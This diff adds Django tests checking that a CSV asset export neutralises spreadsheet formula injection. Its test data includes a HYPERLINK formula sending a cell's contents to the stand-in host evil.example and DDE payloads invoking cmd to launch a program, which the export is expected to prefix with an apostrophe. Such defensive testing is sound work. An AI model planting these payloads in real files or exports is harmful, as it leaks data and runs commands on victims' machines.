@@ -8,7 +8,7 @@ from datetime import date
 import pytest
 from django.core.management import CommandError, call_command
 
-from accounts.tests.factories import OrganisationFactory
+from accounts.tests.factories import MembershipFactory, OrganisationFactory, VerifiedUserFactory
 from assets.models import AccessModel, Asset
 from assets.opendata import COLUMNS
 from assets.tests.factories import AssetFactory
@@ -192,3 +192,50 @@ def test_exports_name_a_published_parent(client, mif):
     _, rows = read_csv(client)
 
     assert {row["ID"]: row["Related Facility ID"] for row in rows} == {"mif": "", "mif-ms": "mif"}
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
+    "summary": "+cmd|' /C calc'!A0",
+    "manufacturer": "-2+3+cmd|' /C calc'!A0",
+    "model_number": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "eligibility": "\t=1+1",
+    "address": "\r=1+1",
+}
+
+
+def test_csv_export_neutralises_formulas_planted_in_any_field(client, mif):
+    """The probe: a host organisation's owner renamed the organisation to a formula, and
+    /assets/export.csv passed it (and =, +, -, @, tab and CR-led values) verbatim."""
+    owner = VerifiedUserFactory()
+    MembershipFactory(user=owner, organisation=mif.host)
+    client.force_login(owner)
+    renamed = client.post(
+        f"/organisations/{mif.host.slug}/edit/",
+        {"name": FORMULAS["name"], "kind": "university", "visibility": "public"},
+    )
+    assert renamed.status_code == 302, renamed.content.decode()
+    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
+
+    text, rows = read_csv(client)
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith("-") and cell != "-2.964500"]
+    row = next(r for r in rows if r["ID"] == "mif-ms")
+    assert row["Organisation"] == "'" + FORMULAS["name"]
+    assert row["Name"] == "'" + FORMULAS["name"]
+    assert row["Model"] == "'" + FORMULAS["model_number"]
+    assert row["Longitude"] == "-2.964500"  # a number stays a number
+
+
+def test_neutralised_cells_import_as_they_were_written(client, mif, tmp_path):
+    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
+    path = tmp_path / "assets.csv"
+    path.write_text(read_csv(client)[0])
+    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()
+
+    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())
+
+    asset = Asset.objects.get(slug="mif-ms")
+    assert asset.name == FORMULAS["name"] and asset.model_number == FORMULAS["model_number"]
